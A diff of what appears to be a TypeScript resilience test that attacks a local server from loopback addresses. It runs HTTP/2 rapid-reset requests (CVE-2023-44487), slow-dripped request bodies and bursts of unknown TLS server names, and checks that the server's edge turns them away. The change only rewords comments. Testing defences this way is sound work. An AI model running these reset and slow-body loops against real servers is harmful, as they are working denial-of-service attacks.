@@ -4,19 +4,20 @@ import { setTimeout as sleep } from 'node:timers/promises';
 import { connect, type TLSSocket } from 'node:tls';
 import type { AttackOrder, AttackSeen } from './attack.js';
 
-/** `attack-main.js ORDER`: attacks one server from ten addresses, and prints what it did, as JSON. */
+/** `attack-main.js ORDER`: attacks one server from ten addresses and prints what it did as JSON. */
 const { port, servedName, unknownNames } = JSON.parse(process.argv[2] ?? '') as AttackOrder; // by `attack`
 const ASKERS = 8;
 const SLOW_AT_ONCE = 100;
 const RESETS_AT_ONCE = 100;
 const DRIP_MS = 100;
-/** Between bursts: whoever attacks from one machine must leave time for the rest of the attack. */
+/** Between bursts: leaves time for the other attacks of this process. */
 const BURST_PAUSE_MS = 20;
 const LIMIT_MS = 5_000;
 
 const target = { host: '127.0.0.1', port, rejectUnauthorized: false } as const;
-/** Machines that attack. What one address may have is limited, so each who asks for names has one of its own. */
-const [resetter, slow] = ['127.0.0.2', '127.0.0.3'];
+/** Addresses of the attackers. The edge limits each address, so each client that requests names has its own. */
+const resetter = '127.0.0.2';
+const slow = '127.0.0.3';
 const asker = (index: number) => `127.0.0.${4 + index}`;
 const seen = { refusedNames: 0, resets: 0, slowBodies: 0 };
 const ending = new AbortController();
@@ -39,12 +40,12 @@ async function askForUnknownNames(): Promise<void> {
   await Promise.all(Array.from({ length: ASKERS }, ask));
 }
 
-/** CVE-2023-44487: requests that are cancelled as soon as they are made, on one session after the other. */
+/** CVE-2023-44487: requests that are cancelled at once, on one session after another. */
 async function resetRapidly(): Promise<void> {
   while (!ending.signal.aborted) {
     const socket = open(resetter, servedName, ['h2']);
     const session = connectHttp2(`https://${servedName}`, { createConnection: () => socket });
-    session.on('error', () => undefined); // it is sent away, as it should be
+    session.on('error', () => undefined); // the edge ends it, as expected
     while (!session.closed && !session.destroyed) {
       for (let index = 0; index < RESETS_AT_ONCE && !session.closed && !session.destroyed; index++) {
         const stream = session.request({ ':path': '/' });
@@ -73,7 +74,7 @@ async function dripBodies(): Promise<void> {
 function open(localAddress: string, servername: string, ALPNProtocols: string[]): TLSSocket {
   const options = { ...target, localAddress, servername, ALPNProtocols };
   const socket = connect(options);
-  socket.on('error', () => undefined); // its close tells
+  socket.on('error', () => undefined); // `close` follows
   return socket.resume();
 }
 
